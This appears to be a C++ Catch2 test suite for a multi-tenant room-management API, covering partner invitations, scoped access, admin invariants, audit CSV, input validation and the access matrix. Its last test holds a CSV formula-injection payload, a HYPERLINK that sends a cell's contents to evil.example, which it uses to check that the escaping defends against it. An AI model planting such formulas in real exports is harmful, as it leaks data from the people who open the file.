// The service logic through its Router, in process: statuses and bodies of API.md for the
// flows that matter — invitations end to end, scope and invisibility, the invariant, both
// off-boardings, audit, and bad input that must change nothing.
#include <catch2/catch.hpp>

#include <set>

#include "mtm/snapshot.hpp"
#include "trm/csv.hpp"
#include "trm_fixture.hpp"

using trmtest::Harness;
using trmtest::json;

namespace {

// Invites Northwind's listed people to manage Contoso's Oslo rooms; returns the invitation id.
std::string invite_northwind(Harness& h, const std::string& ann, json contacts,
                             json scope = {{"roomGroupIds", {"rg-oslo"}}}) {
    auto r = h.send("POST", "/api/v1/partners/invitations", ann,
                    json{{"partnerDomain", "northwind.example"},
                         {"contacts", contacts},
                         {"scope", scope},
                         {"expiresInDays", 7},
                         {"approval", "auto"},
                         {"termsAccepted", true}});
    REQUIRE(r.status == 201);
    return r.body["id"].get<std::string>();
}

}  // namespace

TEST_CASE("the invitation flow end to end: invite, listed-only, accept, customer appears",
          "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto nia = h.login("nia@northwind.example");
    auto boss = h.login("boss@northwind.example");
    auto id = invite_northwind(h, ann,
                               json::array({{{"name", "Nia"}, {"upn", "nia@northwind.example"}}}));

    // Only listed people see it — not even the partner's global admin.
    CHECK(h.call("GET", "/api/v1/invitations", boss).body["items"].empty());
    CHECK(h.call("POST", "/api/v1/invitations/" + id + "/accept", boss).status == 404);
    auto mine = h.call("GET", "/api/v1/invitations", nia);
    REQUIRE(mine.body["items"].size() == 1);
    CHECK(mine.body["items"][0]["status"] == "pending");
    CHECK(h.call("GET", "/api/v1/customers", nia).body["items"].empty());

    auto accepted = h.call("POST", "/api/v1/invitations/" + id + "/accept", nia, "{}");
    REQUIRE(accepted.status == 200);
    CHECK(accepted.body["relationship"]["customerTenantId"] == "t-contoso");
    auto customers = h.call("GET", "/api/v1/customers", nia);
    REQUIRE(customers.body["items"].size() == 1);
    CHECK(customers.body["items"][0]["name"] == "Contoso");
    CHECK(h.call("POST", "/api/v1/invitations/" + id + "/accept", nia).status ==
          409);  // already acted

    // The partner sees exactly the designated rooms; the rest do not exist for it.
    auto rooms = h.call("GET", "/api/v1/tenants/t-contoso/rooms", nia);
    REQUIRE(rooms.status == 200);
    CHECK(rooms.body["items"].size() == 2);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms/r-ny-1", nia).status == 404);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms/r-oslo-1", nia).status == 200);
    CHECK(h.call("GET", "/api/v1/tenants/t-fabrikam/rooms", nia).status == 404);
}

TEST_CASE("a forbidden action names the missing permission and the roles that grant it", "[trm]") {
    Harness h;
    auto tom = h.login("tom@contoso.example");  // Site Tech on the Oslo rooms
    auto r = h.call("POST", "/api/v1/tenants/t-contoso/rooms/r-oslo-1/reset-key", tom, "{}");
    CHECK(r.status == 403);
    CHECK(r.content_type == "application/problem+json");
    CHECK(r.body["missing"] == "rooms.resetKey");
    CHECK(r.body["grantedBy"] == json::array({"MMR Admin"}));
    // Out of his scope the room is invisible, not forbidden.
    CHECK(h.call("POST", "/api/v1/tenants/t-contoso/rooms/r-ny-1/reset-key", tom, "{}").status ==
          404);
    // And the refusal is in the customer's audit log.
    auto ann = h.login("ann@contoso.example");
    auto audit = h.call("GET", "/api/v1/tenants/t-contoso/audit?format=json", ann);
    REQUIRE(audit.status == 200);
    bool found = false;
    for (const auto& rec : audit.body["items"])
        found |= rec["activity.resultStatus"] == "Failed" && rec["user.userId"] == "u-tom";
    CHECK(found);
}

TEST_CASE("the last Primary admin cannot be removed, but the relationship can end", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto nia = h.login("nia@northwind.example");
    auto id = invite_northwind(h, ann,
                               json::array({{{"name", "Nia"}, {"upn", "nia@northwind.example"}}}));
    REQUIRE(h.call("POST", "/api/v1/invitations/" + id + "/accept", nia).status == 200);
    auto roles = h.call("GET", "/api/v1/tenants/t-contoso/roles", nia);
    REQUIRE(roles.status == 200);
    REQUIRE(roles.body["items"].size() == 1);  // a partner sees only its own roles
    auto pa = roles.body["items"][0];
    CHECK(pa["name"] == "Primary admins");
    std::string path = "/api/v1/tenants/t-contoso/roles/" + pa["id"].get<std::string>() +
                       "/assignments/" + pa["assignments"][0]["id"].get<std::string>();
    auto emptied = h.send("PATCH", path, nia, json{{"members", json::array()}});
    CHECK(emptied.status == 409);
    CHECK(emptied.body["code"] == "last_primary_admin");
    CHECK(h.call("DELETE", path, nia).status == 409);
    CHECK(h.call("DELETE", "/api/v1/tenants/t-contoso/roles/" + pa["id"].get<std::string>(), ann)
              .status == 409);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms", nia).status == 200);  // nothing changed

    // The partner removes the customer: access ends at once.
    CHECK(h.call("DELETE", "/api/v1/customers/t-contoso", nia).status == 204);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms", nia).status == 404);
    CHECK(h.call("GET", "/api/v1/customers", nia).body["items"].empty());
}

TEST_CASE("the customer removes the partner and its pending invitations die with it", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto nia = h.login("nia@northwind.example");
    auto ned = h.login("ned@northwind.example");
    auto id = invite_northwind(h, ann,
                               json::array({{{"name", "Nia"}, {"upn", "nia@northwind.example"}},
                                            {{"name", "Ned"}, {"upn", "ned@northwind.example"}}}));
    REQUIRE(h.call("POST", "/api/v1/invitations/" + id + "/accept", nia).status == 200);
    CHECK(h.call("DELETE", "/api/v1/partners/t-northwind", ann).status == 204);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms", nia).status == 404);
    // Ned's pending acceptance can no longer revive the relationship.
    CHECK(h.call("POST", "/api/v1/invitations/" + id + "/accept", ned).status == 409);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms", ned).status == 404);
}

TEST_CASE("a partner help-desk role is limited to tickets within the customer's scope", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto nia = h.login("nia@northwind.example");
    auto nat = h.login("nat@northwind.example");
    auto id = invite_northwind(h, ann,
                               json::array({{{"name", "Nia"}, {"upn", "nia@northwind.example"}}}));
    REQUIRE(h.call("POST", "/api/v1/invitations/" + id + "/accept", nia).status == 200);
    auto role = h.send("POST", "/api/v1/tenants/t-contoso/roles", nia,
                       json{{"name", "Help desk"},
                            {"permissions", {"tickets.create", "tickets.view", "tickets.update"}}});
    REQUIRE(role.status == 201);
    CHECK(role.body["side"] == "partner");
    std::string rid = role.body["id"].get<std::string>();
    // A scope beyond the customer's grant is refused.
    auto wide = h.send("POST", "/api/v1/tenants/t-contoso/roles/" + rid + "/assignments", nia,
                       json{{"name", "All"},
                            {"members", {{{"type", "group"}, {"id", "g-helpdesk"}}}},
                            {"scope", {{"allRooms", true}}}});
    CHECK(wide.status == 422);
    auto ok = h.send("POST", "/api/v1/tenants/t-contoso/roles/" + rid + "/assignments", nia,
                     json{{"name", "Oslo"},
                          {"members", {{{"type", "group"}, {"id", "g-helpdesk"}}}},
                          {"scope", {{"roomIds", {"r-oslo-1"}}}}});
    REQUIRE(ok.status == 201);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/incidents", nat).body["items"].size() == 1);
    auto reset = h.call("POST", "/api/v1/tenants/t-contoso/rooms/r-oslo-1/reset-key", nat);
    CHECK(reset.status == 403);
    CHECK(reset.body["missing"] == "rooms.resetKey");
    // The customer deletes the partner's custom role: access goes with it.
    CHECK(h.call("DELETE", "/api/v1/tenants/t-contoso/roles/" + rid, ann).status == 204);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/incidents", nat).status == 404);
}

TEST_CASE("the all-customers incidents view spans tenants and names each row's customer", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto fay = h.login("fay@fabrikam.example");
    auto nia = h.login("nia@northwind.example");
    auto first =
        invite_northwind(h, ann, json::array({{{"name", "Nia"}, {"upn", "nia@northwind.example"}}}),
                         {{"allRooms", true}});
    REQUIRE(h.call("POST", "/api/v1/invitations/" + first + "/accept", nia).status == 200);
    auto r = h.send("POST", "/api/v1/partners/invitations", fay,
                    json{{"partnerDomain", "northwind.example"},
                         {"contacts", {{{"name", "Nia"}, {"upn", "nia@northwind.example"}}}},
                         {"scope", {{"allRooms", true}}},
                         {"expiresInDays", 7},
                         {"termsAccepted", true}});
    REQUIRE(r.status == 201);
    REQUIRE(
        h.call("POST", "/api/v1/invitations/" + r.body["id"].get<std::string>() + "/accept", nia)
            .status == 200);
    auto all = h.call("GET", "/api/v1/incidents", nia);
    REQUIRE(all.status == 200);
    REQUIRE(all.body["items"].size() == 3);
    std::set<std::string> names;
    for (const auto& i : all.body["items"]) names.insert(i["tenantName"].get<std::string>());
    CHECK(names == std::set<std::string>{"Contoso", "Fabrikam"});
    CHECK(h.call("GET", "/api/v1/incidents?tenantId=t-fabrikam", nia).body["items"].size() == 1);
    CHECK(h.call("GET", "/api/v1/incidents?severity=loud", nia).status == 400);
}

TEST_CASE("audit CSV has exactly the documented header and quotes fields", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    REQUIRE(
        h.send("POST", "/api/v1/tenants/t-contoso/room-groups", ann, json{{"name", "Lobby, main"}})
            .status == 201);
    auto csv = h.call("GET", "/api/v1/tenants/t-contoso/audit?format=csv", ann);
    REQUIRE(csv.status == 200);
    CHECK(csv.content_type == "text/csv; charset=utf-8");
    auto first_line = csv.raw.substr(0, csv.raw.find("\r\n"));
    CHECK(first_line ==
          "activity.category,activity.objectName,activity.operation,activity.resultStatus,activity."
          "tenantId,"
          "creationTime,user.userId,user.userTenantId");
    CHECK(csv.raw.find("RoomGroup,\"Lobby, "
                       "main\",Create,Successful,t-contoso,2026-11-27T16:00:00Z,u-ann,t-contoso") !=
          std::string::npos);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/audit?from=2025-01-01", ann).status ==
          422);  // > 180 days back
    auto nia = h.login("nia@northwind.example");
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/audit", nia).status == 404);
    auto tom = h.login("tom@contoso.example");
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/audit", tom).status == 404);
}

TEST_CASE("bad input gets a clear error and changes nothing", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto groups_before =
        h.call("GET", "/api/v1/tenants/t-contoso/room-groups", ann).body["items"].size();
    CHECK(h.call("POST", "/api/v1/tenants/t-contoso/room-groups", ann, std::string("{\"name\": "))
              .status == 400);
    CHECK(h.send("POST", "/api/v1/tenants/t-contoso/room-groups", ann, json{{"name", 5}}).status ==
          422);
    CHECK(h.send("POST", "/api/v1/tenants/t-contoso/room-groups", ann,
                 json{{"name", "x"}, {"nmae", "typo"}})
              .status == 422);
    CHECK(h.call("POST", "/api/v1/tenants/t-contoso/room-groups", ann, std::string(100, '['))
              .status == 400);
    CHECK(h.send("POST", "/api/v1/tenants/t-contoso/room-groups", ann,
                 json{{"name", "x"}, {"roomIds", {"r-fab-1"}}})
              .status == 422);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/room-groups", ann).body["items"].size() ==
          groups_before);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms?limit=0", ann).status == 400);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms?cursor=abc", ann).status == 400);
    CHECK(h.call("GET", "/api/v1/me", "").status == 401);
    CHECK(h.call("GET", "/api/v1/me", "forged").status == 401);
    CHECK(h.send("POST", "/api/v1/auth/dev-login", "", json{{"upn", "nobody@contoso.example"}})
              .status == 401);
    CHECK(h.call("GET", "/api/v1/tenants/t-nope/rooms", ann).status == 404);
}

TEST_CASE("lists paginate with a cursor", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto first = h.call("GET", "/api/v1/tenants/t-contoso/rooms?limit=2", ann);
    REQUIRE(first.body["items"].size() == 2);
    REQUIRE(first.body["nextCursor"].is_string());
    auto second = h.call("GET",
                         "/api/v1/tenants/t-contoso/rooms?limit=2&cursor=" +
                             first.body["nextCursor"].get<std::string>(),
                         ann);
    REQUIRE(second.body["items"].size() == 1);
    CHECK(second.body["nextCursor"].is_null());
    CHECK(second.body["items"][0]["id"] != first.body["items"][0]["id"]);
}

TEST_CASE("If-Match with a stale etag is a 409 and changes nothing", "[trm]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto room = h.call("GET", "/api/v1/tenants/t-contoso/rooms/r-oslo-1", ann).body;
    std::string etag = room["etag"].get<std::string>();
    REQUIRE(h.call("PATCH", "/api/v1/tenants/t-contoso/rooms/r-oslo-1", ann,
                   json{{"displayName", "Oslo A"}}.dump(), {{"if-match", etag}})
                .status == 200);
    auto stale = h.call("PATCH", "/api/v1/tenants/t-contoso/rooms/r-oslo-1", ann,
                        json{{"displayName", "Oslo B"}}.dump(), {{"if-match", etag}});
    CHECK(stale.status == 409);
    CHECK(h.call("GET", "/api/v1/tenants/t-contoso/rooms/r-oslo-1", ann).body["displayName"] ==
          "Oslo A");
}

TEST_CASE("me/access gives the portal what it needs to decide locally", "[trm]") {
    Harness h;
    auto tom = h.login("tom@contoso.example");
    auto access = h.call("GET", "/api/v1/me/access", tom);
    REQUIRE(access.status == 200);
    REQUIRE(access.body["contexts"].size() == 1);
    auto ctx = access.body["contexts"][0];
    CHECK(ctx["tenantId"] == "t-contoso");
    CHECK(ctx["via"] == "own");
    CHECK(ctx["scope"]["roomGroupIds"] == json::array({"rg-oslo"}));
    CHECK(ctx["grants"][0]["roleName"] == "Site Tech");
    auto snap = trm::snapshot_from_json(access.body);
    CHECK(
        mtm::evaluate(snap, mtm::Permission::rooms_modify, {"t-contoso", "r-oslo-1", {"rg-oslo"}}));
    CHECK_FALSE(mtm::evaluate(snap, mtm::Permission::rooms_reset_key,
                              {"t-contoso", "r-oslo-1", {"rg-oslo"}}));
    CHECK_FALSE(mtm::evaluate(snap, mtm::Permission::rooms_view, {"t-contoso", "r-ny-1", {}}));
}

TEST_CASE("a seed with a bad field is refused with that field named", "[trm]") {
    auto world = trmtest::small_world();
    world["rooms"][2]["tenantId"] = "t-missing";
    trm::MemoryStore store;
    trm::DevTokens tokens([] { return std::string("t"); });
    int n = 0;
    trm::Service s(store, tokens,
                   {[] { return mtm::Time{0}; }, [&] { return "x" + std::to_string(++n); },
                    [] { return std::string("k"); }, false});
    try {
        s.load_seed(world);
        FAIL("the seed was accepted");
    } catch (const trm::SeedError& e) {
        CHECK(e.field == "rooms[2].tenantId");
    }
    auto dup = trmtest::small_world();
    dup["users"][1]["id"] = "u-ann";
    trm::Service s2(store, tokens,
                    {[] { return mtm::Time{0}; }, [&] { return "y" + std::to_string(++n); },
                     [] { return std::string("k"); }, false});
    CHECK_THROWS_WITH(s2.load_seed(dup), Catch::Contains("users[1].id"));
}

TEST_CASE("the access matrix shows my people across customers, explains cells and round-trips",
          "[trm][matrix]") {
    Harness h;
    auto ann = h.login("ann@contoso.example");
    auto tom = h.login("tom@contoso.example");
    auto nia = h.login("nia@northwind.example");
    auto nat = h.login("nat@northwind.example");
    auto id = invite_northwind(h, ann,
                               json::array({{{"name", "Nia"}, {"upn", "nia@northwind.example"}}}));
    REQUIRE(h.call("POST", "/api/v1/invitations/" + id + "/accept", nia).status == 200);
    auto role = h.send("POST", "/api/v1/tenants/t-contoso/roles", nia,
                       json{{"name", "Help desk"}, {"permissions", {"tickets.view"}}});
    REQUIRE(role.status == 201);
    REQUIRE(h.send("POST",
                   "/api/v1/tenants/t-contoso/roles/" + role.body["id"].get<std::string>() +
                       "/assignments",
                   nia,
                   json{{"name", "Oslo"},
                        {"members", {{{"type", "group"}, {"id", "g-helpdesk"}}}},
                        {"scope", {{"roomIds", {"r-oslo-1"}}}}})
                .status == 201);

    auto reply = h.call("GET", "/api/v1/access-matrix", nia);
    REQUIRE(reply.status == 200);
    auto model = trm::matrix_from_json(reply.body);
    REQUIRE(model);
    // Rows are Northwind's people only; the columns are the customers Nia may read roles in.
    CHECK(model->users.size() == 4);
    REQUIRE(model->tenants.size() == 1);
    CHECK(model->tenants[0].name == "Contoso");
    CHECK(model->tenants[0].via_partner);
    // Only Northwind's roles for Contoso: never Contoso's own.
    for (const auto& r : model->roles) CHECK(r.side == mtm::Side::partner);
    CHECK(trm::matrix_json(*model) == reply.body);  // the reader loses nothing

    auto matrix = mtm::compute(*model);
    auto at = [&](const std::string& upn) {
        for (std::uint32_t u = 0; u < model->users.size(); ++u)
            if (model->users[u].upn == upn) return u;
        FAIL("no row for " << upn);
        return 0u;
    };
    CHECK(matrix.at(at("nat@northwind.example"), 0, mtm::Permission::tickets_view) ==
          mtm::Reach::some_rooms);
    CHECK(matrix.at(at("nat@northwind.example"), 0, mtm::Permission::rooms_view) ==
          mtm::Reach::none);
    auto why =
        mtm::explain_cell(*model, at("nat@northwind.example"), 0, mtm::Permission::tickets_view);
    REQUIRE(why.granted_by.size() == 1);
    CHECK(why.granted_by[0]->through_group);  // Nat holds it through the Helpdesk group
    CHECK(model->assignments[why.granted_by[0]->assignment].name == "Oslo");
    // Reset key is beyond what any partner role may hold.
    CHECK(
        mtm::explain_cell(*model, at("nat@northwind.example"), 0, mtm::Permission::rooms_reset_key)
            .beyond_ceiling);

    // What-if: give the help desk role rooms.view too; exactly Nat's cell is gained.
    auto draft = *model;
    for (auto& r : draft.roles)
        if (r.name == "Help desk") r.permissions.add(mtm::Permission::rooms_view);
    auto d = mtm::diff(matrix, mtm::compute(draft));
    CHECK(d.gained == 1);
    CHECK(d.changed() == 1);

    // A customer's MMR Admin sees their own tenant; a Site Tech (no roles.view) is refused.
    auto own = h.call("GET", "/api/v1/access-matrix", ann);
    REQUIRE(own.status == 200);
    CHECK(own.body["tenants"].size() == 1);
    CHECK(own.body["tenants"][0]["via"] == "own");
    auto refused = h.call("GET", "/api/v1/access-matrix", tom);
    CHECK(refused.status == 403);
    CHECK(refused.body["missing"] == "roles.view");
    CHECK(h.call("GET", "/api/v1/access-matrix", "").status == 401);
    (void)nat;
}

TEST_CASE("CSV cells quote per RFC 4180 and never start a formula", "[trm][csv]") {
    CHECK(trm::csv_cell("Oslo 4.12") == "Oslo 4.12");
    CHECK(trm::csv_cell("Lobby, east") == "\"Lobby, east\"");
    CHECK(trm::csv_cell("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(trm::csv_cell("two\nlines") == "\"two\nlines\"");
    for (const char* formula : {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"})
        CHECK(trm::csv_cell(formula).find(std::string("'") + formula) <= 1);
    CHECK(trm::csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")") ==
          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
    CHECK(trm::csv_cell("a=b") == "a=b");  // only the first character makes a formula
    CHECK(trm::csv_cell("") == "");
}
